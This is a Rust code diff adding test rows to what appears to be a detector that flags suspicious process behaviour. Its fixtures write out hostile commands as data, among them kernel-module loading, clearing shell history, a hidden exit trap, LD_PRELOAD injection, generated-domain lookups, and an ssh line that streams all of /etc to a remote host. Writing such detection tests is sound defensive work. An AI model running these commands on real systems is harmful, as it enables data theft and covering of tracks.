@@ -4,7 +4,7 @@ use types::{Kind, StdioKind};
 
 use super::Expect::{Malicious, Suspicious};
 use super::{Row, runs, shell};
-use crate::trace::{ENOENT, ROOT, append, exec, open_new, write};
+use crate::trace::{ENOENT, ROOT, Trace, append, exec, open_new, write};
 
 /// Commands that no process ever ran: a missing `sudo`, a missing tool, a folder that is not there.
 pub(super) const STATED: &[Row] = &[
@@ -60,6 +60,20 @@ pub(super) const STATED: &[Row] = &[
         shell(t, "sudo systemctl start tor");
     }),
 ];
+
+/// The same in a script, whose text is part of the recording.
+pub(super) const SCRIPTS: &[Row] = &[
+    ("module-load", Suspicious, |t| script(t, "set -e\nsudo insmod ./x.ko\n")),
+    ("history-cleared", Suspicious, |t| script(t, "history -c")),
+    ("command-in-trap", Suspicious, |t| script(t, "trap 'nohup sh /opt/x' EXIT\n")),
+    ("library-preload", Suspicious, |t| script(t, "LD_PRELOAD=/tmp/.x.so ls\n")),
+];
+
+/// A run of `sh x.sh` instead of the sample.
+fn script(t: &mut Trace, text: &str) {
+    *t = Trace::of("/usr/bin/dash", &["sh", "x.sh"]);
+    t.recording.run.script = Some(text.into());
+}
 
 pub(super) const HABITS: &[Row] = &[
     ("escaped-shell", Suspicious, |t| {
@@ -165,6 +179,20 @@ pub(super) const HABITS: &[Row] = &[
         t.writes(python, "/data/tool", b"\x7fELF");
         t.event(python, Kind::SetTimes { path: "/data/tool".into(), seconds: 946_684_800 });
         t.spawn(python, "/data/tool", &["./tool"]);
+    }),
+    ("generated-names", Suspicious, |t| {
+        for name in
+            ["xkqzvbtrwp", "mznbvhgqla", "tqwrpzxcvb", "hjkdfgwqpz", "bnmqwrtzxc", "zxcvqwrtpl"]
+        {
+            runs(t, &format!("dig +short {name}.biz"));
+        }
+    }),
+    ("directory-search", Suspicious, |t| {
+        runs(t, "ldapsearch -x -D ann@example.org -w secret -b dc=example -s sub");
+    }),
+    ("locked-archive", Suspicious, |t| runs(t, "zip logins.zip /var/log/wtmp /var/log/btmp")),
+    ("sensitive-upload", Suspicious, |t| {
+        t.spawn(ROOT, "/usr/bin/ssh", &["ssh", "h.example.org", "(cd /etc && tar -zcf - *)"]);
     }),
     ("mailbox-cleared", Suspicious, |t| {
         let mkdir = t.command(ROOT, "mkdir -p /var/spool/mail/copy");
